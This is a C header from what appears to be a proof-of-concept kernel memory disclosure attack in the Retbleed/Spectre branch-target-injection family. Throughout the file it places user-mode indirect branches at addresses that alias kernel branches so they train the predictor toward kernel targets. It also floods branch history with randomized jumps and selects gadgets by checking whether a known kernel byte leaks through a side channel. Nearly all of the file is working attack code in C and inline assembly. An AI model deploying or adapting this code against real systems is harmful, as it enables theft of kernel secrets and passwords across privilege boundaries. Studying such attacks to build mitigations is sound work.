/*
 * Training of branch predictors from user mode, for branches of the kernel.
 *
 * Predictors know branches by low bits of their addresses (Kocher et al., 2019). So a branch of this
 * process at the place that agrees with a branch of the kernel in all but the uppermost bits trains
 * the kernel's. Its target is in the kernel: the jump faults when it gets there, but the predictor
 * has learned the target by then (Wikner and Razavi, "Retbleed", 2022).
 */
#ifndef TRAIN_H
#define TRAIN_H

#include <cpuid.h>
#include <err.h>
#include <errno.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>

#include "attack.h"
#include "channel.h"
#include "fault.h"

enum branch_kind { INDIRECT_JUMP, INDIRECT_CALL };

enum { CODE_PAGE = 4096, BRANCH_BYTES = 2 };

/* Where this process has what agrees with an address of the kernel in 47 bits. */
static inline uint8_t *user_alias(uint64_t address)
{
	return (uint8_t *)(address & ((1ULL << 47) - 1));
}

/*
 * Puts an indirect branch by %rax where it trains the one that ends at a kernel address.
 *
 * @param last address of the kernel branch's last byte, by which predictors know it
 * @return the branch
 */
static inline const uint8_t *place_branch(uint64_t last, enum branch_kind kind)
{
	uint8_t *branch = user_alias(last) - (BRANCH_BYTES - 1);

	for (int i = 0; i < BRANCH_BYTES; i++) {
		uint8_t *page = (uint8_t *)((uintptr_t)(branch + i) & -(uintptr_t)CODE_PAGE);

		/* Several branches may lie in one page. */
		if (mmap(page, CODE_PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) == MAP_FAILED && errno != EEXIST)
			err(1, "mmap %p", (void *)page);
	}
	branch[0] = 0xff;
	branch[1] = kind == INDIRECT_CALL ? 0xd0 : 0xe0;
	return branch;
}

/* Executes a placed branch to a target in the kernel. */
static inline void train(const uint8_t *branch, uint64_t target)
{
	__asm__ volatile(
		RESUME_AT_9
		"mov %[target], %%rax\n\t"
		"jmp *%[branch]\n\t"
		RESUMED
		:
		: [branch] "r"(branch), [target] "r"(target)
		: "rax", "memory", "cc");
}

/* A conditional branch, taken if the lowest bit is not set. No two may leave the same in a history. */
#define BRANCH_BY_BIT(padding) \
	"shr $1, %[bits]\n\t" \
	"jnc 2f\n\t" \
	".fill " #padding ", 1, 0x90\n\t" \
	"2:\n\t"

/*
 * Leaves another history of branches than the calls before: 64 conditional branches at eight places,
 * taken as the bits of a value say, after so many others that nothing older is left. With a history
 * that the processor has not seen at a branch, what it predicts does not come from what the branch
 * did under others. They are conditional ones, as these displace nothing that is known of targets.
 */
static inline void leave_history(uint64_t bits)
{
	__asm__ volatile(
		"mov $200, %%ecx\n\t"
		"1: dec %%ecx\n\t"
		"jnz 1b\n\t"
		"mov $8, %%ecx\n\t"
		"1:\n\t"
		BRANCH_BY_BIT(1)
		BRANCH_BY_BIT(2)
		BRANCH_BY_BIT(3)
		BRANCH_BY_BIT(5)
		BRANCH_BY_BIT(6)
		BRANCH_BY_BIT(7)
		BRANCH_BY_BIT(9)
		BRANCH_BY_BIT(11)
		"dec %%ecx\n\t"
		"jnz 1b\n\t"
		: [bits] "+r"(bits)
		:
		: "rcx", "cc");
}

/*
 * Overwrites what the processor remembers of targets by history: so many indirect jumps, each after
 * another history, that little else is left. What it predicts then does not depend on history.
 *
 * Two branches an iteration move a history by four bits, and 16 targets in a row differ in four: so
 * all histories can come, whatever the address. They are the bytes of one instruction, of which a jump
 * leaves out prefixes. They go on where they were, so that those that collide with the kernel's are
 * others the next time. Random is Knuth's, MMIX.
 */
static inline void forget_histories(void)
{
	enum { JUMPS = 12000 };
	static uint64_t random = 88172645463325252;
	uint64_t count = JUMPS, target, targets;

	__asm__ volatile(
		"lea 2f(%%rip), %[targets]\n\t"
		"1: imul %[factor], %[random]\n\t"
		"add %[increment], %[random]\n\t"
		"mov %[random], %[target]\n\t"
		"shr $60, %[target]\n\t"
		"add %[targets], %[target]\n\t"
		"jmp *%[target]\n\t"
		"2: .fill 14, 1, 0x66\n\t"
		"nop\n\t"
		"dec %[count]\n\t"
		"jnz 1b\n\t"
		: [random] "+r"(random), [count] "+r"(count), [target] "=&r"(target), [targets] "=&r"(targets)
		: [factor] "r"(6364136223846793005ULL), [increment] "r"(1442695040888963407ULL)
		: "cc");
}

/*
 * Whether translations of several address spaces live side by side (PCID). Otherwise each switch between
 * page tables, be it at a system call, empties the translation buffers.
 */
static inline int keeps_translations(void)
{
	enum { PROCESSOR_INFORMATION = 1, PCID = 1 << 17 };
	unsigned int eax, ebx, ecx, edx;

	return __get_cpuid(PROCESSOR_INFORMATION, &eax, &ebx, &ecx, &edx) && ecx & PCID;
}

/* How often to try whether a known byte is read, usually. */
enum { ATTEMPTS_WITH_KNOWN = 12 };

/*
 * Chooses the place to be disclosed: the first with which a known byte of the kernel is read twice, or
 * once, or the last one. Returns how often that byte was read.
 *
 * @param known the byte as this process sees it; it is used before, as secrets are
 */
static inline int choose_disclosure(void (*choose)(uint64_t address), int (*read_byte)(uint64_t address),
				    const uint8_t *known, int attempts)
{
	uint64_t best = options.disclosures.at[options.disclosures.count - 1];
	int most = 0;

	for (int i = 0; i < options.disclosures.count && most < 2; i++) {
		int right = 0;

		choose(options.disclosures.at[i]);
		for (int j = 0; j < attempts && right < 2; j++) {
			touch(known);
			right += read_byte(options.known) == KNOWN_BYTE;
		}
		if (right > most) {
			most = right;
			best = options.disclosures.at[i];
		}
	}
	choose(best);
	return most;
}

/* For how long to try: what has not read a byte that is known hardly reads others. */
static inline struct patience patience_if(int known_was_read)
{
	return (struct patience){ .samples = known_was_read ? 24 : 1, .lead = 2 };
}

#endif
